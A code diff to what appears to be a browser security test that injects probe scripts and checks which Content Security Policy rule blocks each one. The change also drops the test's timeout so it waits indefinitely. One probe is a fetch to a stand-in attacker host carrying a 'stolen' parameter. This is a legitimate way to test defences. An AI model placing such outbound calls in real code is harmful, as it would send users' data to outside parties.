@@ -56,7 +56,7 @@ const probes = {
   'a call to another site': () => fetch('https://evil.example/?stolen=1').then(() => null),
 } as const;
 
-/** Tries one of them, and says which rule of the policy has stopped it. */
+/** Tries one of them, and says which rule of the policy has stopped it; waits until one has. */
 async function tryOn(page: Page, probe: () => unknown): Promise<string> {
   await page.addInitScript({ content: `globalThis.probe = ${probe.toString()}` });
   await page.goto('/');
@@ -67,7 +67,6 @@ async function tryOn(page: Page, probe: () => unknown): Promise<string> {
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
           resolve(effectiveDirective),
         );
-        setTimeout(resolve, 15_000, 'nothing');
         // What the debugger itself runs may evaluate texts; what the page runs later may not.
         setTimeout(() => void Reflect.get(globalThis, 'probe')(), 0);
       }),
